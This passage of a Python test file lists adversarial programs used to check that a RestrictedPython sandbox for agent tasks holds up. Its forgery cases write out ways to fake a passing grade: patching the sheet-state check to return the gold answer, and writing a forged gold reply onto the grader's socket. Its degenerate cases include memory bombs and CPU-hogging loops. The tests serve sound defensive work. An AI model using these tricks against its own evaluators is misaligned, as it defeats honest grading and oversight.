        "worksheet.update_acell('B3', float(np.nextafter(13, 14)))",
        gold=SHEETS_GOLD,
    ),
    Case(
        "sheets_numpy_scalar_cell",
        FORGERY,
        "worksheet.update_acell('B3', np.float32(13.000001))",
        gold=SHEETS_GOLD,
    ),
    Case(
        "sheets_infinite_cell",
        FORGERY,
        "worksheet.update_acell('B3', float('inf'))",
        gold=SHEETS_GOLD,
    ),
    Case(
        "sheets_object_column",
        FORGERY,
        _read_then(
            "class Thirteen:",
            "    pass",
            "df['Cost'] = [Thirteen(), Thirteen()]",
            "set_with_dataframe(worksheet, df, include_index=False, include_column_header=True)",
        ),
        gold=SHEETS_GOLD,
    ),
    Case(
        "escape_forges_own_sheet_state",
        FORGERY,
        _escape(
            *_GOLD_THEN_WRONG,
            "real_setattr(world, 'sheet_state', lambda ws, check: gold)",
        ),
        gold=SHEETS_GOLD,
    ),
    Case(
        "escape_forges_gold_reply_on_socket",
        FORGERY,
        _escape(
            *_GOLD_THEN_WRONG,
            "json = imp('json')",
            "struct = imp('struct')",
            "stat = imp('stat')",
            'frame = (\'["ok", null, ""]\\n\' + json.dumps(gold)).encode()',
            "for fd in range(3, 64):",
            "    try:",
            "        mode = os.fstat(fd).st_mode",
            "    except OSError:",
            "        continue",
            "    if stat.S_ISSOCK(mode):",
            "        os.write(fd, struct.pack('!i', len(frame)) + frame)",
        ),
        gold=SHEETS_GOLD,
    ),
]

# -- 6. degenerate programs -------------------------------------------------------------------

DEGENERATE_CASES = [
    Case(
        "same_call_50000_times",
        DEGENERATE,
        _lines(
            "API.set_location('Reno')",
            "for i in range(50000):",
            "    API.search()",
            "raise RuntimeError('done repeating')",
        ),
        world=HOME,
        kinds=frozenset({"error", "timeout"}),
    ),
    Case(
        "same_line_7000_times",
        DEGENERATE,
        "API.search()\n" * 7000 + "raise RuntimeError('done repeating')",
        world=HOME,
        kinds=frozenset({"error", "timeout"}),
    ),
    Case(
        "line_of_100k_characters",
        DEGENERATE,
        "x = [" + "1," * 49_000 + "]\nraise ValueError(len(x))",
        error="ValueError: 49000",
        # Compiling it under RestrictedPython takes ~0.5 s on an idle core, so on a loaded
        # machine the 1 s wall clock may end it first: contained either way.
        kinds=frozenset({"error", "timeout"}),
    ),
    Case(
        "program_over_the_size_cap",
        DEGENERATE,
        "x = 1\n" * 30_000,
        kinds=REJECTED,
    ),
    Case("unbalanced_brackets_20000", DEGENERATE, "x = " + "[" * 20_000, kinds=REJECTED),
    Case("paren_newline_6kb", DEGENERATE, "(\n" * 3000, kinds=REJECTED),
    Case(
        "nested_list_literal_1000_deep",
        DEGENERATE,
        "x = " + "[" * 1000 + "]" * 1000,
        kinds=REJECTED,
    ),
    Case(
        "giant_string_literal_in_message",
        DEGENERATE,
        "x = '" + "a" * 95_000 + "'\nraise ValueError(x)",
        error="ValueError: aaa",
    ),
    Case(
        "print_flood_one_character_writes",
        DEGENERATE,
        "for i in range(10 ** 6):\n    print('x', end='')",
        kinds=OUTPUT,
    ),
    Case(
        "print_flood_one_call",
        DEGENERATE,
        "print(*range(10 ** 5), sep='\\n')",
        kinds=OUTPUT,
    ),
    Case(
        "huge_int_printed",
        DEGENERATE,
        "x = 10 ** 10 ** 6\nprint(x)",
        error="ValueError",
    ),
    Case(
        "huge_int_product_in_c",
        DEGENERATE,
        "x = 7 ** (10 ** 7)\nx = x * x * x",
        kinds=TIMEOUT,
    ),
    Case(
        "recursion_through_pandas_apply",
        DEGENERATE,
        _read_then("def deeper(column):", "    return df.apply(deeper)", "df.apply(deeper)"),
        kinds=frozenset({"error", "worker_died"}),
    ),
    Case(
        "generator_recursion",
        DEGENERATE,
        "def g():\n    yield from g()\nnext(g())",
        error="RecursionError",
    ),
    Case(
        "bytes_memory_bomb",
        DEGENERATE,
        "x = b'\\x00' * 10 ** 10",
        kinds=MEMORY,
    ),
    Case(
        "str_replace_memory_bomb",
        DEGENERATE,
        "x = ('a' * 10 ** 6).replace('a', 'a' * 10 ** 4)",
        kinds=MEMORY,
    ),
    Case(
        "numpy_repeat_memory_bomb",
        DEGENERATE,
        "x = np.repeat(np.arange(10), 10 ** 9)",
        kinds=MEMORY,
    ),
    Case(
        "cpu_loop_catching_everything",
        DEGENERATE,
        _lines(
            "n = 0",
            "while True:",
            "    try:",
            "        try:",
            "            sum(range(10 ** 6))",
            "        finally:",
            "            n += 1",
            "    except BaseException:",
            "        continue",
        ),
        kinds=TIMEOUT,
    ),
    Case(
        "deeply_nested_cell_value",
        DEGENERATE,
        "x = []\nfor i in range(100000):\n    x = [x]\nworksheet.update([[x]], 'A1')",
    ),
    Case(
        "lone_surrogates_in_output",
        DEGENERATE,
        "print('\\ud800' * 3)\nraise ValueError('\\udfff')",
        error="ValueError",
    ),
    Case(
        "control_characters_in_message",
        DEGENERATE,
        "raise ValueError('a\\x00b\\r\\nc\\x1b[2J' * 50)",
        error="ValueError",
    ),
    Case(
        "memory_error_raised_by_hand",
        DEGENERATE,
        "raise MemoryError('not really')",
        kinds=frozenset({"memory", "error"}),
    ),
]

CASES: list[Case] = [
    *GADGETS,
    *FINALIZERS,
    *PERSISTENCE_CASES,
    *PROC_CASES,
    *FORGERIES,
    *DEGENERATE_CASES,
]

# -- what the test compares before and after every case ---------------------------------------

BENIGN = _read_then(
    "df.loc[0, 'Cost'] = 9",
    "set_with_dataframe(worksheet, df, include_index=False, include_column_header=True)",
)

HOME_BENIGN = "API.set_location('Reno')\nAPI.set_buy_or_rent('buy')\nAPI.search()"
BOOKING_BENIGN = _lines(
    "API.select_booking_type('hotels')",
    "API.set_hotel_location(Loc('Dallas'))",
    "API.set_num_rooms(2)",
    "API.set_checkin_date(Date(6, 14, 2024))",
    "API.set_checkout_date(Date(6, 15, 2024))",
    "API.search()",
)

# Worker-wide state a tampering program could change, printed by a program of our own. Every
# line survives a refusal ('raised'), so a fix that blocks one of them changes fresh and
# tampered workers alike. (str(f).split(' at ')[0] drops object addresses.)
PROBE = _read_then(
    "def show(label, thunk):",
    "    try:",
    "        value = thunk()",
    "    except Exception:",
    "        value = 'raised'",
    "    print(label, value)",
    "keys = ('display.max_rows', 'display.precision', 'display.float_format')",
    "keys += ('future.infer_string',)",
    "show('options', lambda: [str(pd.get_option(key)).split(' at ')[0] for key in keys])",
    "show('dtypes', lambda: df.dtypes.astype(str).tolist())",
    "show('errstate', lambda: np.geterr())",
    "show('divide', lambda: (np.array([1.0]) / 0).tolist())",
    "show('printoptions', lambda: np.get_printoptions())",
    "show('frame', lambda: (df.to_dict(), df['Cost'].sum(), df.dropna().shape, str(df)))",
    "show('read_csv', lambda: pd.read_csv('%PKG%/__init__.py', sep='\\x01', nrows=2).shape)",
    "show('guard', lambda: getattr(df, 'style'))",
    "show('private', lambda: getattr(df, '_mgr'))",
    "def fenced():",
    "    try:",
    "        df.to_csv('%TMP%_probe.csv')",
    "    except PermissionError:",
    "        return 'refused'",
    "show('fence', fenced)",
    "env = lambda: df.agg('style').template_html.environment",
    "show('jinja globals', lambda: sorted(env().globals))",
    "names = lambda items: sorted(str(item).split(' at ')[0] for item in items)",
    "show('jinja filters', lambda: names(env().filters.values()))",
    "show('jinja policies', lambda: names(env().policies.values()))",
)
